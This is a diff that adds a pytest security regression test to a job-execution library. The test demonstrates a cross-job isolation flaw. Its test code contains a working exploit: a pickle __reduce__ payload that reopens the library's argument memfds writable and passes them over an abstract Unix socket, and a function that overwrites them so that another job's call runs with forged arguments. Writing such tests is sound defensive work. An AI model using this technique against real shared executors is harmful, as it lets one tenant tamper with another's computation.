@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import os
 import threading
+import time
 
 import pytest
 
@@ -107,4 +108,97 @@ def test_a_fifo_planted_at_a_pending_result_key_fails_the_call_and_hangs_nothing
     finally:
         for path in planted:
             _unblock(path)
+        ex.shutdown()
+
+
+# -- a recycled argument memfd written by another job's process ----------------------------
+class _GrabArgsMemfd:
+    """In a job's arguments: unpickled in the worker's job process, it reopens the
+    argument memfd being read (writable: the driver leaves argument memfds unsealed
+    to write the next calls' arguments into them) and hands it to a fellow call of
+    the same job through an abstract socket. Attacker's code, all of it job A's own."""
+
+    def __init__(self, address: str) -> None:
+        self.address = address
+
+    def __reduce__(self):
+        address = self.address
+
+        def grab(address=address):
+            import os
+            import socket
+            import time
+
+            fds = []
+            for name in os.listdir("/proc/self/fd"):
+                try:
+                    if os.readlink(f"/proc/self/fd/{name}").startswith("/memfd:wrenpack-args"):
+                        fds.append(os.open(f"/proc/self/fd/{name}", os.O_RDWR))
+                except OSError:
+                    pass
+            deadline = time.time() + 10
+            while fds and time.time() < deadline:
+                try:
+                    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+                        s.connect("\0" + address)
+                        socket.send_fds(s, [b"x"], fds)
+                    break
+                except OSError:
+                    time.sleep(0.02)
+            return len(fds)
+
+        return (grab, ())
+
+
+def _job_a(grabbed, data, address=None):
+    """Job A's function: the call given ``address`` waits for the grabbed memfds and
+    writes its own arguments into them until it has run 4 s; the other call returns."""
+    if address is None:
+        return grabbed
+    import pickle
+    import socket
+    import time
+
+    evil = pickle.dumps(((b"forged by job A",), {}), protocol=5)
+    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    srv.bind("\0" + address)
+    srv.listen(1)
+    srv.settimeout(10)
+    conn, _ = srv.accept()
+    _msg, fds, _flags, _addr = socket.recv_fds(conn, 1, 16)
+    end = time.time() + 4
+    while time.time() < end:
+        for fd in fds:
+            os.pwrite(fd, evil, 0)
+        time.sleep(0.0002)
+    return len(fds)
+
+
+def _job_b(data):
+    return len(data)
+
+
+@pytest.mark.xfail(strict=True, reason="wrenpack/worker/handoff.py (outside this file's scope): an argument memfd "
+                                       "is recycled (_pool) for any later call of the driver, whatever its function, "
+                                       "though a job's process may still hold it writable")
+def test_a_recycled_argument_memfd_cannot_carry_another_jobs_arguments(tmp_path):
+    """Job A's code keeps its call's argument memfd (unsealed, so the driver can
+    write the next call's arguments into it: ``handoff._pool``) and writes into it
+    from a process that lives on. The driver reuses it for job B's arguments (another
+    function: another isolation domain), so B's call runs with what A wrote:
+    B's result is then what A chose, not what B computed."""
+    import uuid
+
+    ex = wrenpack.Executor(storage=str(tmp_path / "store"), retries=0, concurrency=2, timeout=60)
+    address = f"wrenpack-probe-{uuid.uuid4().hex}"
+    big = b"a" * 200_000  # above inline_limit: the arguments travel in a memfd
+    try:
+        a = wrenpack.remote(_job_a, executor=ex)
+        quick, slow = a.starmap([(_GrabArgsMemfd(address), big), (0, b"", address)])
+        assert quick.result(timeout=30) >= 1, "the attack did not get the memfd"
+        time.sleep(0.3)
+        got = wrenpack.remote(_job_b, executor=ex).remote(big).result(timeout=30)
+        slow.result(timeout=30)
+        assert got == len(big), f"job B's call ran with job A's arguments: its result is {got!r}"
+    finally:
         ex.shutdown()
